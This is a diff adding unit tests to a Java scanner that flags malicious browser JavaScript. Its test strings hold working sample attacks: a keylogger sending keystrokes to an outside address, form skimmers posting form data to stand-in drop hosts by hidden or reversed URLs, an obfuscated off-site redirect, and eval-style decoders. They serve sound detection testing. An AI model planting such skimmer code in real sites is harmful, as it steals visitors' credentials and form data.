@@ -163,6 +163,52 @@ class ScriptScannerTest {
         .extracting(URI::getHost).containsExactly("post.example");
   }
 
+  @Test
+  void codeReadAfterFoldingAndConstants() {
+    // a keylogger sending to an address through an <img> made by createElement and setAttribute
+    assertThat(checks("var q=[];document.addEventListener('keyup',function(e){q.push(e.target.name+'='+e.target.value)});"
+        + "setInterval(function(){var i=document.createElement('img');i.setAttribute('src','http://203.0.113.9:8080/k?'"
+        + "+encodeURIComponent(q.join('&')))},5000);")).contains("web.skimmer");
+    // appended to a library file, drop URL written backwards
+    assertThat(fileChecks("jQuery(function(){});\n;var r='php.c/moc.pord-elpmaxe//:sptth'.split('').reverse().join('');"
+        + "jQuery(document).on('submit','form',function(){fetch(r,{method:'POST',body:new FormData(this)})});"))
+        .contains("web.skimmer");
+    // the drop host in a constant, the URL in a template literal
+    assertThat(checks("const h='drop-example.net';f.addEventListener('submit',()=>{const x=new XMLHttpRequest();"
+        + "x.open('POST',`https://${h}/s`,true);x.send(JSON.stringify(Object.fromEntries(new FormData(f))));});"))
+        .contains("web.skimmer");
+    assertThat(checks("setTimeout(function(){self['loc'+'ation']['hr'+'ef']='https://'+'coupon-example'+'.info/'},3000);"))
+        .contains("web.redirect-offsite");
+    assertThat(fileChecks("jQuery(function($){$('.contact form').attr('action','https://relay-example.com/p.php');});"))
+        .isEmpty();
+    assertThat(scanner.scan("jQuery(function($){$('.contact form').attr('action','https://relay-example.com/p.php');});",
+        PAGE, true).formActions()).extracting(URI::getHost).containsExactly("relay-example.com");
+    // a lazy loader setting an image's src from its data- attribute is not a skimmer
+    assertThat(checks("document.querySelectorAll('img[data-src]').forEach(function(i){i.setAttribute('src',i.dataset.src)});"
+        + "var el=document.getElementById('q');if(el.value){fetch('/search?q='+encodeURIComponent(el.value))}"))
+        .doesNotContain("web.skimmer");
+  }
+
+  @Test
+  void obfuscationWithoutTheUsualNames() {
+    // obfuscator.io with renamed identifiers: the string-array rotation and hex-indexed lookups remain
+    String rotated = "(function(a,b){var c=d,e=a();while(!![]){try{var f=parseInt(c(0x1e4))/0x1+-parseInt(c(0x1e0))/0x2"
+        + "+parseInt(c(0x1e7))/0x3*(parseInt(c(0x1e2))/0x4)+-parseInt(c(0x1e6))/0x5+parseInt(c(0x1df))/0x6;if(f===b)break;"
+        + "else e['push'](e['shift']());}catch(g){e['push'](e['shift']());}}}(h,0x5a2c1));function d(a,b){var c=h();"
+        + "return d=function(e,f){e=e-0x1df;return c[e];},d(a,b);}(function(){var j=d,k=document[j(0x1e8)](j(0x1ed));"
+        + "k[j(0x1ea)]=j(0x1eb);}());";
+    assertThat(scanner.obfuscation(rotated, false)).contains("string-array-rotation", "hex-indexed-lookups");
+    assertThat(scanner.obfuscation("var _r=\"...\";eval(_r.split(\"\").reverse().join(\"\"));", false))
+        .contains("eval-decode");
+    assertThat(scanner.obfuscation("var _c=decodeURIComponent('%76%61%72');setTimeout(_c,10);", false))
+        .contains("decoded-code-run");
+    assertThat(scanner.obfuscation("(function(g){var k='at'+'ob',f='Fun'+'ction';g[f](g[k](p))();})(globalThis);", false))
+        .contains("eval-decode");
+    // emoji and colour code with hex numbers, timers with named functions: not obfuscation
+    assertThat(scanner.obfuscation("var e=String.fromCodePoint(0x1F600);var c=rgb(0x12)+rgb(0x34);setTimeout(tick,100);"
+        + "var t=parseInt(s,16);while(q.length){q.push(q.shift())}", false)).isEmpty();
+  }
+
   /** The libraries a small site really serves (Debian's copies, see .ci/test-packages.txt) raise nothing. */
   @Test
   void realLibrariesAreQuiet() throws IOException {
